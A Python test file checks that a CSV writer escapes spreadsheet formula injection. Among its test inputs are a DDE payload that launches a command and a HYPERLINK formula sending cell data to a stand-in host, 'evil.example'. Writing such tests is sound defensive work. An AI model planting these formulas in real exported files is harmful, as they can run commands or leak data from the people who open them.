from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from feeds.cells import cell
from feeds.tables import write_csv

SIGNS = "=+-@＝＋－＠"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1)", " =1", "\t=1",
        "\r=1", "\n=1", "\x00=1", "＝1", "－1", '=1+"',
        '=HYPERLINK("http://evil.example?x="&A1,"x")', "\tтекст", "- деді ол", "\u00a0=1",
    ],
)  # fmt: skip
def test_no_text_is_a_formula(text: str) -> None:
    assert str(cell(text)).startswith("'")


@pytest.mark.parametrize(
    "text",
    ["", "Тоқаев", "5 = 5", "a-b", "«Жарайды», - деді ол.", "1.5", "https://e.kz/?a=1", "x; - деді", "'=1"],
)
def test_prose_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_numbers_stay_numbers() -> None:
    assert [cell(value) for value in (-5, 0, 2.5, None)] == [-5, 0, 2.5, None]


def test_a_cell_that_another_separator_would_begin_is_no_formula_either() -> None:
    assert cell("x;=1+1") == "x;'=1+1"
    assert cell('x";\t@SUM(1)') == "x\";\t'@SUM(1)"


VALUES = st.one_of(st.text(), st.integers(), st.none(), st.sampled_from(SIGNS).map("{}1".format))


@given(st.lists(VALUES, min_size=1))
def test_any_row_reads_back_without_a_formula(row: list[str | int | None]) -> None:
    file = io.StringIO(newline="")
    write_csv(("a",), [row], file)
    _, found = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert len(found) == len(row)
    for given_value, told in zip(row, found, strict=True):
        if isinstance(given_value, str):
            assert not told.lstrip().startswith(tuple(SIGNS))
